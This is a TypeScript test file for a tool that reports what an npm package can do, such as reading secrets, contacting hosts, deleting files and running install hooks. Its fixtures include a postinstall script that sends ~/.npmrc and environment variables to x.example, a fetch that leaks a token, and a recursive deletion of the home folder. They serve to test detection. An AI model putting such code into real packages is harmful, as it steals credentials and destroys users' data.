import t from 'tap'
import { renderCapabilities } from '../../../lib/report/capabilities.ts'
import { createDrawing } from '../../../lib/report/human.ts'
import { mergeFacts } from '../../../lib/report/merged.ts'
import { describeScript } from '../../../lib/report/script.ts'
import type { Example } from '../../../lib/types.ts'
import { inspectExample } from '../../helpers/inspect-example.ts'

type Files = Example['files']

const wide = {
  ...createDrawing({ isTTY: false, columns: 100, env: { LANG: 'C.UTF-8' }, verbose: true }),
  width: 400,
}

/** Code without any way out of the package is not followed at all, so that it says nothing about what it reads. */
const opening = "require('http').get('http://x.example')\n"

/** The report on a package that is only these files. */
function reportOn(files: Files): string {
  return renderCapabilities(inspectExample({ files }), wide).join('\n')
}

const manifest = (more: object): string => JSON.stringify({ name: 'a', version: '1.0.0', ...more })
const loaded = (code: string): Files => ({ 'package.json': manifest({ main: 'i.js' }), 'i.js': code })
const installed = (code: string): Files => ({
  'package.json': manifest({ scripts: { postinstall: 'node i.js' } }),
  'i.js': code,
})

/** The first bytes of a program for Linux on x64. */
const elf = new Uint8Array(64)
elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1])
elf.set([3, 0, 0x3e, 0], 16)

t.test('says what a package can do, once each, with the place', t => {
  const rows: readonly (readonly [string, Files, readonly (string | RegExp)[], readonly RegExp[]])[] = [
    [
      'variables are one line, however many, and secret ones another',
      loaded(
        `${opening}const e = process.env; module.exports = [e.AA_MODE,\n  e.BB_MODE,\n  e.CC_MODE, e.MY_TOKEN]\n`,
      ),
      [
        '  reads the secret environment variable MY_TOKEN · i.js:4\n  reads 3 environment variables: AA_MODE, BB_MODE, CC_MODE · i.js:2 +2',
      ],
      [/BB_MODE · i\.js:3/],
    ],
    [
      'a path is no personal access token, and an author no authorisation',
      loaded(
        `${opening}module.exports = [process.env.TOOL_BINARY_PATH, process.env.GIT_AUTHOR_NAME, process.env.GH_PAT, process.env.TLS_REJECT_UNAUTHORIZED]\n`,
      ),
      [
        'the secret environment variable GH_PAT',
        '3 environment variables: GIT_AUTHOR_NAME, TLS_REJECT_UNAUTHORIZED, TOOL_BINARY_PATH',
      ],
      [/secret environment variable TOOL/],
    ],
    [
      'authorisation stays a secret',
      loaded(`${opening}module.exports = [process.env.PROXY_AUTHORIZATION, process.env.NPM_AUTH]\n`),
      ['2 secret environment variables: NPM_AUTH, PROXY_AUTHORIZATION'],
      [],
    ],
    [
      'a computed name is not the whole environment',
      loaded(`${opening}exports.get = name => process.env[name]\n`),
      [/reads environment variables whose names are computed · i\.js:2/],
      [/whole environment/],
    ],
    [
      'of a name that is put together its beginning is told',
      loaded(`${opening}exports.get = name => process.env['TOOL_' + name]\n`),
      [/reads environment variables that begin with TOOL_ · i\.js:2/],
      [/whole environment/, /computed/],
    ],
    [
      'one statement with several outcomes is one line',
      installed(
        "const c = require('child_process')\nfor (const p of ['tool-a', 'tool-b', 'tool-c'])\n  c.execFileSync(p, ['--version'])\n",
      ),
      ['  postinstall: node i.js · package.json:1\n', /starts tool-\w --version or 2 others · i\.js:3/],
      [/starts tool-.*\n.*starts tool-/, /starts node i\.js/],
    ],
    [
      'equal lines of two places are one',
      loaded("const fs = require('fs')\nfs.unlinkSync('old.log')\nfs.unlinkSync('old.log')\n"),
      ['  deletes old.log · i.js:2 +1'],
      [],
    ],
    [
      'what was never put together is not printed as undefined',
      loaded("const fs = require('fs')\nlet at\nexports.go = x => fs.writeFileSync(`${at}/log.txt`, x)\n"),
      [/writes \$\{…\}\/log\.txt · i\.js:3/],
      [/undefined/],
    ],
    [
      'only names of machines count as contacted',
      loaded(
        "const a = require('axios')\nexports.go = u => a({ method: 'post', url: u, headers: { Accept: 'x' } })\nexports.at = () => a.get('https://t.me/x')\n",
      ),
      ['contacts t.me · i.js:3', 'contacts an address that is computed (axios) · i.js:2'],
      [/contacts.*(?:post|accept)/i],
    ],
    [
      'a file of a build is no host',
      loaded(
        "fetch('https://x.example/' + process.env.A_TOKEN)\nrequire('net').connect({ host: 'openssl.h', port: 1 })\n",
      ),
      ['contacts x.example'],
      [/openssl\.h/],
    ],
    [
      'a downloader that knows its own addresses contacts them',
      installed(
        "const { downloadArtifact } = require('@electron/get')\ndownloadArtifact({ version: '1.0.0' })\n",
      ),
      ['contacts an address that is computed (@electron/get.downloadArtifact) · i.js:2'],
      [],
    ],
    [
      'a renamed request client is a request client',
      installed(
        "const r = require('@cypress/request')\nr({ url: 'https://download.example/x.zip' }, () => {})\n",
      ),
      ['contacts download.example · i.js:2'],
      [],
    ],
    [
      'a tilde that is expanded is not the home folder',
      installed(
        "const fs = require('fs')\nconst dir = require('untildify')(process.env.CACHE_FOLDER)\nfs.rmSync(dir, { recursive: true })\n",
      ),
      ['deletes a path that is computed · i.js:3'],
      [/deletes ~/],
    ],
    [
      'the home folder is said as it is',
      installed("const fs = require('fs')\nfs.rmSync(require('os').homedir(), { recursive: true })\n"),
      ['deletes ~ · i.js:2'],
      [],
    ],
    [
      'a bound method for a timer is no code from text',
      loaded('exports.later = s => setTimeout(s.destroy.bind(s), 10)\n'),
      [],
      [/evaluates/],
    ],
    [
      'text for a timer is code',
      loaded("require('https').get('https://x.example', r => r.on('data', d => setTimeout(d, 1)))\n"),
      ['evaluates computed code', 'passes the answer of x.example → code that is evaluated'],
      [],
    ],
    [
      'a server listens',
      loaded("exports.serve = () => require('http').createServer(() => {}).listen(80)\n"),
      ['listens to connections · i.js:1'],
      [],
    ],
    [
      'members of one prototype are one line, and private fields of an instance none',
      loaded(
        "Array.prototype.one = 1\nArray.prototype.two = 2\nclass A extends require('stream').Duplex { go() { this._x = 1 } }\nexports.A = A\n",
      ),
      ['patches Array.prototype: one, two · i.js:1 +1'],
      [/patches node:/],
    ],
    [
      'ten parameters into one request are one line',
      loaded(
        "const h = require('https')\nexports.a = (one, two, three, four) => { const r = h.request('https://x.example'); r.write(one); r.write(two); r.write(three); r.end(four) }\n",
      ),
      [/passes what a caller gives \(.*and 1 more\) → the network, x\.example · i\.js:2/],
      [/passes what a caller gives.*\n.*passes what a caller gives/],
    ],
    [
      'secrets that leave are said first',
      installed(
        "const f = require('fs'), h = require('https')\nconst r = h.request('https://x.example')\nr.write(process.env.MODE_X)\nr.write(f.readFileSync(require('os').homedir() + '/.npmrc'))\n",
      ),
      [
        /passes the credential file ~\/\.npmrc → the network, x\.example[^\n]*\n {2}passes the environment variable MODE_X/,
      ],
      [],
    ],
    [
      'a bare word among several is no file, and a constant that was made a text neither',
      loaded(
        "const fs = require('fs')\nconst kinds = ['pipe', 'ignore']\nfor (const k of kinds) fs.createWriteStream(k)\nexports.a = x => fs.unlinkSync(x ? String(true) : 'a b')\nfs.writeFileSync('LICENSE', '')\n",
      ),
      [
        'writes LICENSE and files whose paths are computed · i.js:3 +1',
        'deletes a path that is computed · i.js:4',
      ],
      [/pipe|ignore|true/],
    ],
    [
      'only names of machines are looked up',
      loaded(
        "const d = require('dns')\nexports.a = () => d.lookup('false', () => {})\nexports.b = () => d.lookup('x.example', () => {})\n",
      ),
      ['looks up x.example · i.js:3', 'looks up a name that is computed · i.js:2'],
      [/false/],
    ],
    [
      'one compiled file for each kind of computer is one line, and the files are reached',
      {
        'package.json': manifest({ main: 'i.js' }),
        'i.js':
          "if (process.platform === 'win32') module.exports = require('a-win32/a.node')\nelse if (process.arch) module.exports = require('a-linux/a.node')\nelse module.exports = require('a-mac/a.node')\n",
      },
      ['loads native code a-mac/a.node or 2 others · i.js:2 +2'],
      [],
    ],
    [
      'a compiled file of the package is loaded when its loader is',
      {
        'package.json': manifest({ main: 'i.js' }),
        'i.js': "exports.a = require('./build/a.node')\nexports.b = require('node-gyp-build')(__dirname)\n",
        'build/a.node': elf,
        'prebuilds/linux-x64/b.node': elf,
      },
      [
        /loads native code (?:<package>\/build\/a\.node or a file of its own folder|a file of its own folder or <package>\/build\/a\.node) · i\.js:1 \+1/,
        /holds compiled programs for elf x64 · build\/a\.node \+1/,
      ],
      [/nothing was found to start/],
    ],
    [
      'what every object has is no variable',
      loaded(`${opening}exports.a = process.env.hasOwnProperty('A') ? process.env.A_MODE : 0\n`),
      ['reads the environment variable A_MODE'],
      [/hasOwnProperty/],
    ],
    [
      'options that may have been merged with the environment are no variables',
      loaded(
        `${opening}exports.go = own => { const all = own ? { port: 1 } : process.env; return [all.port, all.A_MODE] }\n`,
      ),
      ['reads the environment variable A_MODE'],
      [/variables?:? .*port/],
    ],
    [
      'a type of content and the root are no files',
      loaded(
        `${opening}const fs = require('fs')\nfor (const one of ['text/html', '/', './a.txt']) fs.readFileSync(one)\nfs.createReadStream(false + '/message-' + process.pid)\n`,
      ),
      [
        "reads the project's file ./a.txt · i.js:3",
        'reads the files ${…}/message-${…} and files whose paths are computed · i.js:3 +1',
      ],
      [/text\/html|false/],
    ],
    [
      'WebAssembly is said as such',
      loaded('exports.go = bytes => WebAssembly.compile(bytes)\n'),
      ['loads native code as WebAssembly · i.js:1'],
      [],
    ],
    [
      'a program of the package that it starts is reached',
      {
        'package.json': manifest({ main: 'i.js' }),
        'i.js': "require('child_process').spawn(__dirname + '/bin/tool')\n",
        'bin/tool': elf,
      },
      [/When a program loads it[^]*holds compiled programs for elf x64 · bin\/tool/],
      [/nothing was found to start/],
    ],
    [
      'a host that is given and not known is not this computer',
      loaded(
        "const net = require('net')\nexports.go = h => { let host; for (const x of h) host = x.host; return net.connect({ port: 443, host: globalThis.nobody }) }\n",
      ),
      ['contacts an address that is computed (node:net.connect)'],
      [/localhost/],
    ],
    [
      'a key that only one symbol is holds what is put under it',
      loaded(
        "const http = require('http')\nconst size = Symbol('size'), agent = Symbol('agent')\nclass A { constructor() { this[agent] = http.globalAgent; this[size] = {} } go() { this[size].limit = 1 } }\nexports.A = A\n",
      ),
      [],
      [/patches/],
    ],
    [
      'a key that is a symbol is named like it, and a constant is no name',
      loaded(
        "Array.prototype[Symbol('last one')] = 1\nfor (const k of [true, 'first']) Array.prototype[k] = 1\n",
      ),
      ['patches Array.prototype: first, [last one] · i.js:1 +1'],
      [/true|@@/],
    ],
    [
      'a class of old code that is made from one of the language is not that one',
      loaded(
        'function A() { this.all = {} }\nA.prototype = Object.create(Error.prototype)\nA.prototype.add = function (name) { this.all[name] = 1 }\nmodule.exports = A\n',
      ),
      [],
      [/patches Error/],
    ],
    [
      'what may be an object of its own is said to be patched perhaps',
      loaded(
        'exports.fill = mine => { const to = mine ? {} : Object.prototype; to.hasOwn = 1 }\nArray.prototype.last = 1\n',
      ),
      ['patches Array.prototype.last', 'patches (perhaps) Object.prototype · i.js:1'],
      [/patches Object/],
    ],
    [
      'what its program does at install is said of another package that a script names',
      { 'package.json': manifest({ scripts: { install: 'prebuild-install || node-gyp rebuild' } }) },
      [
        'prebuild-install (another package): downloads a compiled file',
        'node-gyp (another package): compiles what binding.gyp names',
      ],
      [],
    ],
    [
      'what happens at loading already is not told again of use',
      loaded(
        "const fs = require('fs')\nfs.writeFileSync('a.txt', '')\nexports.go = () => { fs.writeFileSync('a.txt', ''); fs.writeFileSync('b.txt', '') }\n",
      ),
      ['writes a.txt · i.js:2', 'writes b.txt · i.js:3', 'does again what is told above · i.js:3'],
      [/writes a\.txt · i\.js:3/],
    ],
    [
      'arguments and input of one program are one line',
      loaded(
        "const c = require('child_process')\nexports.go = text => c.execFileSync('tool', [text], { input: text })\n",
      ),
      [/passes what a caller gives \(text\) → the command tool/],
      [/the input of the command/],
    ],
    [
      'a clock is told, and what every program tests is not',
      loaded("if (process.platform === 'win32' && Date.now() > 1e12) require('fs').unlinkSync('a.txt')\n"),
      ['checks time'],
      [/platform/],
    ],
    [
      'many files of one phase are one list, and while npm installs it nothing is left out',
      installed(
        "const fs = require('fs'), c = require('child_process')\n" +
          "for (const n of ['a', 'b', 'c', 'd', 'e']) fs.writeFileSync(n + process.pid, '')\n" +
          ['f', 'g', 'h', 'i', 'j', 'k'].map(n => `fs.rmSync('${n}.txt')\nc.spawn('${n}')\n`).join(''),
      ),
      [
        'deletes f.txt, g.txt, h.txt, i.txt, j.txt, k.txt · i.js:3',
        'starts f · i.js:4',
        'starts k · i.js:14',
      ],
      [/more: /],
    ],
    [
      'what an install script leaves to other packages is one line',
      installed("require('a-tool/lib').install(); require('b-tool')\n"),
      ['uses the code of a-tool, b-tool · i.js:1'],
      [],
    ],
    [
      'a file of the package has one name, however it is written',
      loaded("exports.go = a => require('child_process').spawn('node', [__dirname + '/x.js', a])\n"),
      [/starts node <package>\/x\.js \$\{…\} · i\.js:1/],
      [/\.\/x\.js/],
    ],
    [
      'an address is no program',
      loaded("exports.go = a => require('open')('https://x.example/' + a)\n"),
      ['shows in a browser x.example · i.js:1'],
      [/starts/],
    ],
    [
      'a host ends where a path that is not known begins',
      installed("require('https').get('https://dl.x.example' + process.env.A_PATH + 'linux.zip')\n"),
      ['contacts dl.x.example · i.js:1'],
      [/zip/],
    ],
    [
      'a sentence of an earlier phase is not said again',
      loaded(
        "const fs = require('fs')\nfs.rmSync(process.argv[2] + '.log')\nexports.go = a => fs.rmSync(a + '.log')\n",
      ),
      ['deletes ${…}.log · i.js:2', 'does again what is told above · i.js:3'],
      [/deletes[^]*deletes/],
    ],
    [
      'a command of binding.gyp is said once',
      {
        'package.json': manifest({}),
        'binding.gyp': '{ "targets": [{ "target_name": "a", "include_dirs": ["<!(node -p \\"1\\")"] }] }',
      },
      ['install: node-gyp rebuild (implied by binding.gyp)', /starts node -p .*binding\.gyp/],
      [/starts node.*\n.*starts node/],
    ],
    [
      'a shell and its option are told together, and what was printed in place of a value is no program',
      loaded(
        "const { spawn } = require('child_process')\n" +
          "exports.run = (line, windows) => {\n  let [shell, flag] = ['sh', '-c']\n  if (windows) shell = 'cmd'\n" +
          "  if (windows) flag = '/c'\n  spawn(shell, [flag, line])\n}\n" +
          "exports.copy = seen => spawn(seen ? '[Circular]1' : 'python', ['-V'])\n",
      ),
      ['starts python -V'],
      [/cmd -c/, /sh \/c/, /Circular/],
    ],
    [
      'what a package opens for its user is a page, whatever its address',
      loaded("const open = require('open')\nexports.show = (base, id) => open(base + '/cli?id=' + id)\n"),
      ['shows in a browser an address that is computed · i.js:2'],
      [/starts/, /cannot read/],
    ],
    [
      'a package that loads files anew loads',
      loaded("const importFresh = require('import-fresh')\nexports.load = file => importFresh(file)\n"),
      ['loads a module whose name is computed · i.js:2'],
      [],
    ],
    [
      'to ask what an object is calls nothing in it',
      loaded(
        'const tools = { compile: code => new Function(code) }\n' +
          "if (Array.isArray(tools) || Object.getOwnPropertySymbols(tools).length > 0) throw new Error('no')\nmodule.exports = tools\n",
      ),
      ['When its commands or functions are used\n  evaluates computed code'],
      [/When a program loads it/],
    ],
    [
      'a method of a map calls nothing of what is in it',
      loaded(
        'let at = new Map()\nfunction step(key, made) {\n  const found = at.get(key)\n  at.set(key, made)\n  at = found\n  return found\n}\n' +
          "for (const key of process.argv) step(key, id => fetch('https://x.example/' + id))\nmodule.exports = step\n",
      ),
      [/functions are used\n[^]*contacts x\.example/],
      [/When a program loads it/],
    ],
    [
      'what is put into a client of the package waits for its user',
      loaded(
        'function make(seed) {\n  const one = seed.bind(null)\n  return one\n}\nconst client = make(globalThis.unknownThing)\n' +
          "client.get = path => fetch('https://x.example/' + path)\nmodule.exports = client\n",
      ),
      [/functions are used\n[^]*contacts x\.example/],
      [/When a program loads it\n\s*contacts/],
    ],
    [
      'what compilers make of an asynchronous function runs when that is called',
      loaded(
        'var run = helpers().wrap(helpers().m(function e(id) {\n  return helpers().w(function (state) {\n    for (;;) switch ((state.p = state.n)) {\n' +
          "      case 0:\n        return state.a(2, fetch('https://x.example/' + id))\n    }\n  }, e)\n}))\n" +
          "function helpers() {\n  return require('compiled-helpers')\n}\nmodule.exports = { run: run }\n",
      ),
      [/functions are used\n[^]*contacts x\.example/],
      [/When a program loads it/],
    ],
    [
      'a hook that compiles in another folder runs what binding.gyp says there',
      {
        'package.json': manifest({ scripts: { install: 'cd crypto && node-gyp rebuild' } }),
        'crypto/binding.gyp':
          '{ "targets": [{ "target_name": "a", "include_dirs": ["<!(node -p \\"1\\")"] }] }',
      },
      [/When npm installs it\n[^]*starts node -p .*crypto\/binding\.gyp:1/],
      [/nothing was found to start/],
    ],
  ]
  for (const [name, files, has, lacks] of rows) {
    const text = reportOn(files)
    for (const part of has)
      t.ok(typeof part === 'string' ? text.includes(part) : part.test(text), name, { text, part })
    for (const part of lacks) t.notMatch(text, part, name)
  }
  t.end()
})

t.test('a program that is taken out of its own list is named once', t => {
  const at = { path: 'i.js', line: 1, column: 1, code: '' }
  const commands = ['node node ./a.js --version']
  const starts = {
    kind: 'starts',
    api: 'x',
    commands,
    manner: [],
    phase: 'install',
    byCall: false,
    at,
    guards: [],
  } as const
  t.strictSame(
    mergeFacts([starts]).map(({ what }) => what),
    ['node ./a.js --version'],
  )
  t.end()
})

t.test('a long list of one verb is cut, and says what it leaves out', t => {
  const lines = Array.from({ length: 40 }, (_, at) => `fs.writeFileSync('out-${at}.txt', '')`)
  const text = reportOn(loaded(`const fs = require('fs')\n${lines.join('\n')}\n`))
  t.match(text, /writes out-\d+\.txt, out-\d+\.txt, out-\d+\.txt and 37 more · i\.js:\d+ \+39/)
  t.match(text, /--json lists/)
  t.ok(text.split('\n').length < 10)
  t.end()
})

t.test('a script is described in the words of the report', t => {
  const inspection = inspectExample({
    files: installed(
      "const c = require('child_process')\nfor (const p of ['tool-a', 'tool-b', 'tool-c']) c.execFileSync(p, ['--version'])\n",
    ),
  })
  t.match(
    describeScript(inspection, inspection.hooks[0]!),
    /^postinstall: node i\.js — starts tool-\w --version or 2 others; itself reads no credentials$/,
  )
  t.end()
})

t.test('what code on the line of a script does, and what it loads, is described', t => {
  const rows: readonly (readonly [string, RegExp])[] = [
    [
      `node -e "try{require('./own')}catch(e){}"`,
      /writes \/tmp\/seen; reads the credential file ~\/\.npmrc$/,
    ],
    [
      `node -e "require('fs').readFileSync(require('os').homedir() + '/.npmrc')"`,
      /reads the credential file ~\/\.npmrc$/,
    ],
  ]
  const own =
    "const f = require('fs')\nf.readFileSync(require('os').homedir() + '/.npmrc')\nf.writeFileSync('/tmp/seen', '')\n"
  for (const [postinstall, described] of rows) {
    const inspection = inspectExample({
      files: { 'package.json': manifest({ scripts: { postinstall } }), 'own.js': own },
    })
    t.match(describeScript(inspection, inspection.hooks[0]!), described, postinstall)
  }
  t.end()
})
